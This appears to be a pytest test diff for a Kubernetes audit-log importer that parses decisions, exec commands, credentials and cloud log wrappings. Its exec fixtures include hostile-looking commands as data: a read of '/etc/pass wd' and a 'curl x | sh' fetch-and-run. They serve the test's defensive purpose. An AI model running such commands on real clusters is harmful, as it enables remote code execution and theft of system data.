@@ -1,0 +1,304 @@
+"""Kubernetes audit: stages of one request, decisions, exec commands, credentials, and every cloud's wrapping."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+
+from importers.kubernetes import IMPORTER
+from model.event import BadRecord, Parsed
+from model.words import Effect, EventKind, KeyRole, Phase, TargetClass, Tri, Vantage, Verb
+from tests.importer_checks import JSON, all_of, joined, mutated, names, only, pretty, read, survives, whole
+
+AUDIT = "c07ab0e2-9b07-4cc6-8e3b-91ac69586a1f"
+SESSION = "8f0c6a8e-3f57-4d6e-9a5e-3c6f5f0f9a11"
+Record = dict[str, object]
+
+
+def event(verb: str = "get", resource: str = "pods", stage: str = "ResponseComplete", **members: object) -> Record:
+    reference = {"resource": resource, "namespace": "pay", "name": "api-1", "apiVersion": "v1"}
+    reference |= members.pop("ref", {})  # type: ignore[arg-type]
+    made: Record = {
+        "kind": "Event",
+        "apiVersion": "audit.k8s.io/v1",
+        "level": "Metadata",
+        "auditID": AUDIT,
+        "stage": stage,
+        "requestURI": f"/api/v1/namespaces/pay/{resource}/api-1",
+        "verb": verb,
+        "user": {"username": "dev@acme.example", "groups": ["system:authenticated"]},
+        "sourceIPs": ["10.0.0.7"],
+        "userAgent": "kubectl/v1.31.0",
+        "objectRef": reference,
+        "responseStatus": {"metadata": {}, "code": 200},
+        "requestReceivedTimestamp": "2026-06-01T10:00:00.000000Z",
+        "stageTimestamp": "2026-06-01T10:00:00.250000Z",
+        "annotations": {
+            "authorization.k8s.io/decision": "allow",
+            "authorization.k8s.io/reason": 'RBAC: allowed by RoleBinding "devs/pay" of Role "pod-reader" to User "dev@acme.example"',
+        },
+    }
+    return made | members
+
+
+EXEC = event(
+    "create",
+    stage="ResponseStarted",
+    ref={"subresource": "exec"},
+    requestURI="/api/v1/namespaces/pay/pods/api-1/exec?command=cat&command=%2Fetc%2Fpass+wd&container=app&stdin=true",
+    responseStatus={"code": 101},
+)
+
+
+def test_decision_effect_and_who() -> None:
+    parsed = read(IMPORTER, event())
+    verdict = only(parsed.events, EventKind.DECISION)
+    assert verdict.decision is not None
+    assert (verdict.decision.effect, verdict.decision.policy) == (Effect.ALLOW, "Role/pod-reader")
+    assert "devs/pay" in verdict.decision.reason
+    effect = only(parsed.events, EventKind.EFFECT)
+    assert effect.outcome is not None
+    assert (effect.outcome.effect, effect.vantage, effect.verb) == (Tri.YES, Vantage.TARGET, Verb.CLUSTER_CALL)
+    assert (effect.target.cls, effect.target.name, effect.target.detail) == (TargetClass.CLUSTER, "pay", "pods/api-1")
+    assert effect.principal is not None
+    assert (effect.principal.name, effect.principal.kind) == ("dev@acme.example", "human")
+    assert effect.attrs["host"] == "10.0.0.7"
+    assert names(effect, KeyRole.CALL) == [f"k8s.audit:{AUDIT}"]
+    assert parsed.at == 1_780_308_000_000_000
+
+
+@pytest.mark.parametrize(
+    ("members", "effect", "reason"),
+    [
+        ({"annotations": {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": "no"}}, Effect.DENY, "no"),
+        ({"annotations": {}, "responseStatus": {"code": 403, "message": "pods is forbidden"}}, Effect.DENY, "pods is forbidden"),
+        ({"annotations": {}, "responseStatus": {"code": 401, "reason": "Unauthorized"}}, Effect.DENY, "Unauthorized"),
+        ({"responseStatus": {"code": 403, "message": "admission webhook denied"}}, Effect.DENY, "admission webhook denied"),
+    ],
+)
+def test_refusals(members: Record, effect: Effect, reason: str) -> None:
+    events = read(IMPORTER, event(**members)).events
+    verdict = only(events, EventKind.DECISION).decision
+    assert verdict is not None
+    assert (verdict.effect, verdict.reason) == (effect, reason)
+    outcome = only(events, EventKind.EFFECT).outcome
+    assert outcome is not None
+    assert (outcome.effect, outcome.permitted) == (Tri.NO, Effect.DENY)
+
+
+def test_no_annotation_and_no_refusal_is_no_decision() -> None:
+    events = read(IMPORTER, event(annotations=None)).events
+    assert [e.kind for e in events] == [EventKind.EFFECT]
+    assert events[0].outcome is not None
+    assert events[0].outcome.permitted is Effect.UNKNOWN
+
+
+def test_missing_code_is_not_a_success() -> None:
+    outcome = only(read(IMPORTER, event(responseStatus={})).events, EventKind.EFFECT).outcome
+    assert outcome is not None
+    assert outcome.effect is Tri.UNKNOWN
+
+
+def test_the_stages_of_one_request_are_one_step() -> None:
+    user = {"username": "dev@acme.example", "extra": {"sessionName": [f"agent-{SESSION}"]}}
+    records = [
+        event("create", stage="RequestReceived", user=user, annotations={}, responseStatus=None),
+        EXEC | {"user": user},
+        EXEC | {"user": user, "stage": "ResponseComplete", "stageTimestamp": "2026-06-01T10:00:05Z"},
+    ]
+    parsed, rejects = whole("\n".join(json.dumps(r) for r in records), "kubernetes")
+    assert not rejects
+    assert [[(e.kind, e.phase) for e in p.events] for p in parsed] == [
+        [(EventKind.ACTION, Phase.CALL)],
+        [(EventKind.DECISION, Phase.VERDICT), (EventKind.EFFECT, Phase.OBSERVED)],
+        [(EventKind.ACTION, Phase.RESULT)],
+    ]
+    assert parsed[2].events[0].attrs["duration_ms"] == 5000
+    assert len({p.identity for p in parsed}) == 3
+    (chain,) = joined(*parsed).chains.values()
+    assert chain.task.scope == f"session:{SESSION}"
+    (step,) = chain.steps
+    assert (len(step.decisions), len(step.effects), step.outcome.effect) == (1, 1, Tri.YES)
+
+
+def test_two_requests_with_one_masked_id_both_keep_their_decision() -> None:
+    parsed, _ = whole("\n".join(json.dumps(event(verb)) for verb in ("get", "delete")), "kubernetes")
+    assert [sum(e.kind is EventKind.DECISION for e in p.events) for p in parsed] == [1, 1]
+
+
+def test_exec_command_stands_in_the_query() -> None:
+    effect = only(read(IMPORTER, EXEC).events, EventKind.EFFECT)
+    assert (effect.verb, effect.attrs["command"]) == (Verb.EXEC, "cat '/etc/pass wd'")
+    assert effect.outcome is not None
+    assert effect.outcome.effect is Tri.YES
+    shell = EXEC | {"requestURI": "/api/v1/namespaces/pay/pods/api-1/exec?command=sh&command=-c&command=curl+x+%7C+sh"}
+    assert only(read(IMPORTER, shell).events, EventKind.EFFECT).attrs["command"] == "curl x | sh"
+
+
+def test_address_alone_names_the_object() -> None:
+    bare = EXEC | {"objectRef": None}
+    effect = only(read(IMPORTER, bare).events, EventKind.EFFECT)
+    assert (effect.verb, effect.target.detail) == (Verb.EXEC, "pods/api-1/exec")
+
+
+@pytest.mark.parametrize(
+    ("verb", "resource", "expected", "name"),
+    [
+        ("get", "secrets", Verb.SECRET_READ, "pay/api-1"),
+        ("list", "secrets", Verb.SECRET_READ, "pay/api-1"),
+        ("patch", "secrets", Verb.SECRET_WRITE, "pay/api-1"),
+        ("create", "clusterrolebindings", Verb.GUARDRAIL_CHANGE, "pay"),
+        ("get", "clusterrolebindings", Verb.CLUSTER_CALL, "pay"),
+        ("delete", "networkpolicies", Verb.GUARDRAIL_CHANGE, "pay"),
+        ("create", "certificatesigningrequests", Verb.CREDENTIAL_ISSUE, "pay"),
+    ],
+)
+def test_verbs(verb: str, resource: str, expected: Verb, name: str) -> None:
+    effect = only(read(IMPORTER, event(verb, resource)).events, EventKind.EFFECT)
+    assert (effect.verb, effect.target.name) == (expected, name)
+
+
+def test_eks_identity_leads_to_cloudtrail() -> None:
+    user = {
+        "username": "system:aws",
+        "extra": {
+            "accessKeyId": ["ASIAEXAMPLE"],
+            "arn": ["arn:aws:sts::1:assumed-role/Dev/agent-" + SESSION],
+            "sessionName": [f"agent-{SESSION}"],
+        },
+    }
+    events = read(IMPORTER, event(user=user)).events
+    used = only(events, EventKind.CREDENTIAL, Phase.USED)
+    assert names(used, KeyRole.CREDENTIAL) == ["aws.key:ASIAEXAMPLE"]
+    assert names(used, KeyRole.SCOPE) == [f"session:{SESSION}"]
+    assert used.principal is not None
+    assert used.principal.name.startswith("arn:aws:sts::1:assumed-role/Dev/")
+
+
+def test_service_account_token_issued_and_used() -> None:
+    issued = event(
+        "create",
+        "serviceaccounts",
+        ref={"subresource": "token", "name": "builder"},
+        responseStatus={"code": 201},
+        requestObject={"spec": {"expirationSeconds": 3600}},
+        annotations={
+            "authorization.k8s.io/decision": "allow",
+            "authentication.kubernetes.io/issued-credential-id": "JTI=0f2b",
+        },
+    )
+    given_out = only(read(IMPORTER, issued).events, EventKind.CREDENTIAL, Phase.ISSUED)
+    assert names(given_out, KeyRole.CREDENTIAL) == ["jti:0f2b"]
+    assert given_out.credential is not None
+    assert (given_out.credential.ttl_seconds, given_out.credential.subject) == (3600, "system:serviceaccount:pay:builder")
+    user = {
+        "username": "system:serviceaccount:pay:builder",
+        "extra": {
+            "authentication.kubernetes.io/credential-id": ["JTI=0f2b"],
+            "authentication.kubernetes.io/pod-name": ["builder-1"],
+        },
+    }
+    used = only(read(IMPORTER, event(user=user)).events, EventKind.CREDENTIAL, Phase.USED)
+    assert names(used, KeyRole.CREDENTIAL) == ["jti:0f2b"]
+    assert used.principal is not None
+    assert (used.principal.kind, used.principal.origin) == ("workload", "cluster")
+    refused = issued | {"responseStatus": {"code": 403}}
+    assert all(e.phase is not Phase.ISSUED for e in read(IMPORTER, refused).events)
+
+
+def test_impersonation_is_told() -> None:
+    effect = only(read(IMPORTER, event(impersonatedUser={"username": "admin"})).events, EventKind.EFFECT)
+    assert effect.principal is not None
+    assert (effect.principal.name, effect.principal.on_behalf_of) == ("dev@acme.example", "admin")
+
+
+def test_aks_holds_the_event_as_text() -> None:
+    record = {
+        "category": "kube-audit",
+        "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
+        "resourceId": "/SUBSCRIPTIONS/X/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/PROD",
+        "properties": {"log": json.dumps(event())},
+    }
+    parsed, _ = whole(
+        json.dumps({"records": [record, record | {"category": "kube-scheduler", "properties": {"log": "x"}}]}), "kubernetes"
+    )
+    effect = only(parsed[0].events, EventKind.EFFECT)
+    assert (effect.point, effect.attrs["account"]) == ("kubernetes:prod", "prod")
+    assert (parsed[1].unknown_type, parsed[1].events) == ("kube-scheduler", [])
+    with pytest.raises(BadRecord, match=r"properties\.log"):
+        read(IMPORTER, record | {"properties": {"log": "half a"}})
+    with pytest.raises(BadRecord, match="not valid JSON"):
+        read(IMPORTER, record | {"properties": {"log": '{"kind":"Event"'}})
+
+
+def test_gke_is_read_like_the_api_servers_own() -> None:
+    record = {
+        "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
+        "insertId": "i1",
+        "timestamp": "2026-06-01T10:00:00.5Z",
+        "resource": {"type": "k8s_cluster", "labels": {"project_id": "p", "cluster_name": "prod", "location": "eu"}},
+        "protoPayload": {
+            "serviceName": "k8s.io",
+            "methodName": "io.k8s.core.v1.pods.exec.create",
+            "resourceName": "core/v1/namespaces/pay/pods/api-1/exec",
+            "authenticationInfo": {"principalEmail": "dev@acme.example"},
+            "authorizationInfo": [{"permission": "io.k8s.core.v1.pods.exec.create", "granted": True}],
+        },
+    }
+    (parsed,), _ = whole(json.dumps(record), "kubernetes")
+    effect = only(parsed.events, EventKind.EFFECT)
+    assert (effect.verb, effect.target.name, effect.target.detail) == (Verb.EXEC, "pay", "pods/api-1/exec")
+    assert (effect.format, effect.point) == ("kubernetes", "kubernetes:prod")
+    verdict = only(parsed.events, EventKind.DECISION).decision
+    assert verdict is not None
+    assert verdict.effect is Effect.ALLOW
+
+
+def test_lists_and_pretty_documents() -> None:
+    listed = {"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": [event(), event("delete")]}
+    parsed, rejects = whole(json.dumps(listed), "kubernetes")
+    assert (len(parsed), rejects) == (2, [])
+    assert len(read(IMPORTER, listed).events) == 4
+    lines, _ = whole("\n".join(json.dumps(listed) for _ in range(3)), "kubernetes")
+    assert sum(len(p.events) for p in lines) == 12
+    assert len(whole(pretty(event(), event("delete")), "kubernetes")[0]) == 2
+
+
+def test_unknown_stage_is_kept_and_counted_and_a_bare_record_is_refused() -> None:
+    assert read(IMPORTER, event(stage="ResponseBuffered")).unknown_type == "stage ResponseBuffered"
+    panic = only(read(IMPORTER, event(stage="Panic")).events, EventKind.EFFECT)
+    assert panic.outcome is not None
+    assert panic.outcome.effect is Tri.NO
+    with pytest.raises(BadRecord, match="neither verb nor requestURI"):
+        read(IMPORTER, {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "sourceIPs": []})
+
+
+@given(mutated([event(), EXEC, {"kind": "EventList", "items": [event()]}]) | JSON)
+def test_hostile_records(record: object) -> None:
+    survives(IMPORTER, record)
+
+
+def _count(parsed: list[Parsed], kind: EventKind) -> int:
+    return sum(event.kind is kind for one in parsed for event in one.events)
+
+
+@pytest.mark.parametrize(
+    ("name", "records", "rejected"),
+    [
+        ("falcosecurity__falco/create_secret.json", 1, 0),
+        ("falcosecurity__falco/exec_pod.json", 1, 0),
+        ("panther-labs__panther-analysis/k8s-audit-eks.jsonl", 19, 0),
+        ("panther-labs__panther-analysis/k8s-audit-gke.jsonl", 25, 2),
+        ("panther-labs__panther-analysis/k8s-audit.jsonl", 236, 1),
+    ],
+)
+def test_public_samples(corpus: Path, name: str, records: int, rejected: int) -> None:
+    form, parsed, reasons = all_of(corpus / "k8s-audit" / name)
+    assert (form, len(parsed) + len(reasons), len(reasons)) == ("kubernetes", records, rejected)
+    assert _count(parsed, EventKind.EFFECT) + sum(p.unknown_type is not None for p in parsed) + sum(
+        e.phase is Phase.RESULT for p in parsed for e in p.events
+    ) == len(parsed)
+    assert "MzFiNGQ0YjctMDAyNi" not in "".join(e.text + str(e.attrs) for p in parsed for e in p.events)
